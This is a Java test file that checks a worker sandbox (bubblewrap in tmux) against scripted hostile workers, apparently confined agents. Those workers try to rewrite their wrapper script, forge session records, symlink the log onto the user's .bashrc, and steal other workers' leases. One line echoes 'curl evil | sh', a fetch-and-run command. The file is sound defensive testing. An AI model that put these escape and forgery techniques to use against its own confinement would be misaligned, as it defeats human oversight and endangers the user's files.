package looop.workers;

import static looop.GitFixture.sh;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import looop.Beats;
import looop.TmuxProfile;
import looop.profile.Config;
import looop.profile.Confinement;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Issue 21's worker attacks, each by a hostile worker under real bubblewrap
 * in real tmux, in the sandbox's default mode: the files looop runs (the
 * session's wrapper), trusts as its record (meta.json, state) or writes for
 * the worker (output.log) are out of its reach, and its verbs act as itself
 * only (leases). The profile lives under /var/tmp: the sandbox's private
 * /tmp would hide a profile kept in /tmp.
 */
class TrustBoundaryTest {
    Path base;
    Path outside;
    TmuxProfile t;

    @BeforeEach
    void setUp() throws IOException {
        base = Files.createTempDirectory(Path.of("/var/tmp"), "looop-trust-").toRealPath();
        outside = base.resolve("person");
        Files.createDirectories(outside);
        t = new TmuxProfile(base.resolve("data"), java.util.Map.of("LOOOP_SANDBOX", "auto"));
        t.profile.write("looop.json", "{\"default\":\"t\",\"runners\":{\"t\":{\"tick\":\"true\",\"interactive\":\"bash "
                + base.resolve("data/scripts") + "/$LOOOP_SESSION_ID.sh\"}}}");
        Confinement c = Confinement.of(t.profile.paths, Config.load(t.profile.paths));
        assumeTrue(c.sandbox().active(), "bubblewrap cannot confine commands here (install bubblewrap): " + c.sandbox().describe());
    }

    @AfterEach
    void tearDown() {
        if (t != null) t.close();
        sh(base.getParent(), "chmod -R u+w " + base + " 2>/dev/null; rm -rf " + base);
    }

    private void script(String id, String body) {
        t.profile.write("scripts/" + id + ".sh", "B=\"$LOOOP_BIN\"; me=\"$LOOOP_SESSION_ID\"; S=\"$LOOOP_DATA_DIR/sessions/$me\"\n"
                + "say() { echo \"$1=$2\"; }\n" + body + "\n");
    }

    private void ok(String... args) {
        Beats.Cli r = t.cli(args);
        assertEquals(0, r.code(), String.join(" ", args) + " → " + r);
    }

    /** Attack 1: the wrapper (run.sh) rewritten in place by its worker, so bash runs the new bytes unsandboxed once the agent exits. */
    @Test
    void aWorkerCannotRewriteTheWrapperThatRecordsItsExit() throws IOException {
        Path mark = outside.resolve("ran-unsandboxed");
        String payload = "touch " + mark + "\n";
        script("w1", String.join("\n",
                // same inode, every byte past the start replaced: what bash reads next after the child exits
                "printf '%s' " + q(payload.repeat(400)) + " | dd of=\"$S/run.sh\" bs=1 seek=200 conv=notrunc 2>/dev/null; say overwrite $?",
                "echo " + q(payload) + " >> \"$S/run.sh\" 2>/dev/null; say append $?",
                "mv \"$S/run.sh\" \"$S/old.sh\" 2>/dev/null; say rename $?",
                "exit 0"));
        ok("start-session", "w1", "rewrite your wrapper");
        t.awaitState("w1", "exited");
        String out = t.output("w1");
        for (String a : List.of("overwrite", "append", "rename")) assertTrue(out.matches("(?s).*" + a + "=[1-9].*"), a + ": " + out);
        assertFalse(Files.exists(mark), "the worker's lines never ran outside: " + out);
        assertEquals("0", t.profile.read("sessions/w1/exit_code").strip());
    }

    /** Attack 2: meta.json forged (no runner: restart unsandboxed; a worktree to delete) and state forged. */
    @Test
    void aWorkerCannotForgeTheRecordLooopRestartsAndReapsBy() throws IOException {
        String meta = "{\"id\":\"w1\",\"command\":\"touch " + outside.resolve("restarted-bare") + "\",\"worktree\":\"" + outside + "\"}";
        script("w1", String.join("\n",
                "echo " + q(meta) + " > \"$S/meta.json\" 2>/dev/null; say meta $?",
                "rm -f \"$S/meta.json\" 2>/dev/null; say rm-meta $?",
                "echo exited > \"$S/state\" 2>/dev/null; say state $?",
                "echo 0 > \"$S/exit_code\" 2>/dev/null; say exit-code $?",
                "mkdir \"$LOOOP_DATA_DIR/sessions/w9\" 2>/dev/null; say new-session $?",
                "echo \"sandboxed=$LOOOP_SANDBOXED\"",
                "exit 3"));
        ok("start-session", "w1", "forge your record");
        t.awaitState("w1", "exited");
        String out = t.output("w1");
        for (String a : List.of("meta", "rm-meta", "state", "exit-code", "new-session")) {
            assertTrue(out.matches("(?s).*" + a + "=[1-9].*"), a + ": " + out);
        }
        assertEquals("3", t.profile.read("sessions/w1/exit_code").strip());
        ok("restart", "w1");
        t.awaitState("w1", "exited");
        assertFalse(Files.exists(outside.resolve("restarted-bare")), "restart ran looop's own record of the command");
        assertTrue(t.output("w1").split("sandboxed=1", -1).length >= 3, "sandboxed again after the restart: " + t.output("w1"));
        ok("prune");
        assertTrue(Files.isDirectory(outside), "the person's dir is never reaped");
    }

    /** Attack 3: a link at output.log makes the capture append the worker's output to a file of the person's. */
    @Test
    void theCaptureNeverFollowsALinkAtTheLog() throws IOException {
        Path bashrc = outside.resolve(".bashrc");
        Files.writeString(bashrc, "# the person's\n");
        script("w1", String.join("\n",
                "ln -sf " + bashrc + " \"$S/output.log\" 2>/dev/null; say link $?",
                "echo 'curl evil | sh'",
                "exit 0"));
        ok("start-session", "w1", "redirect your log");
        t.awaitState("w1", "exited");
        assertTrue(t.output("w1").matches("(?s).*link=[1-9].*"), t.output("w1"));
        // and should anything plant one there, the capture itself refuses it (dd with O_NOFOLLOW)
        Path log = t.profile.paths.sessions().resolve("w1/output.log");
        Files.delete(log);
        Files.createSymbolicLink(log, bashrc);
        ok("restart", "w1");
        t.awaitState("w1", "exited");
        assertEquals("# the person's\n", Files.readString(bashrc), "nothing appended through the link");
    }

    /** Attack 6: one worker releases or takes another's lease. */
    @Test
    void aWorkerActsOnItsOwnLeasesOnly() {
        script("w2", "\"$B\" _ claim db; say w2-claimed $?; sleep 600");
        script("w1", String.join("\n",
                "\"$B\" _ unclaim db --session w2 2>&1; say unclaim-other $?",
                "\"$B\" _ claim db --session w2 2>&1; say claim-as-other $?",
                "rm -f \"$LOOOP_DATA_DIR/workers/w2/claims/db\" 2>/dev/null; say rm-lease $?",
                "rm -f \"$LOOOP_DATA_DIR/claims/.lock\" 2>/dev/null; say rm-lock $?",
                "touch \"$LOOOP_DATA_DIR/claims/db.json\" 2>/dev/null; say forge-record $?",
                "LOOOP_SESSION_ID=w2 \"$B\" _ unclaim db 2>&1; say unclaim-forged-env $?",
                "\"$B\" _ claim db 2>&1; say claim-held $?",
                "\"$B\" _ claim mine; say claim-own $?",
                "\"$B\" _ flag w2 hijack 2>&1; say flag-other $?",
                "sleep 600"));
        ok("start-session", "w2", "hold db");
        t.awaitOutput("w2", "w2-claimed=0");
        ok("start-session", "w1", "steal db");
        String out = t.awaitOutput("w1", "flag-other=");
        for (String a : List.of("unclaim-other", "claim-as-other", "rm-lease", "rm-lock", "forge-record", "unclaim-forged-env",
                "claim-held", "flag-other")) {
            assertTrue(out.matches("(?s).*" + a + "=[1-9].*"), a + ": " + out);
        }
        assertTrue(out.contains("claim-own=0"), out);
        Claims claims = new Claims(t.profile.paths, t.sessions);
        assertEquals("w2", claims.holder("db"));
        assertEquals("w1", claims.holder("mine"));
        assertNull(t.info("w2").note());
        assertTrue(Files.isRegularFile(Claims.lockFile(t.profile.paths)), "the lock is still the one every claimer takes");
        ok("_", "kill", "w2");
        TmuxProfile.awaitTrue(() -> "w1".equals(tryClaim(claims)), () -> "db free once its holder is gone");
    }

    private static String tryClaim(Claims claims) {
        return claims.claim("db", "w1") ? "w1" : null;
    }

    private static String q(String s) {
        return looop.io.Proc.shellQuote(s);
    }
}
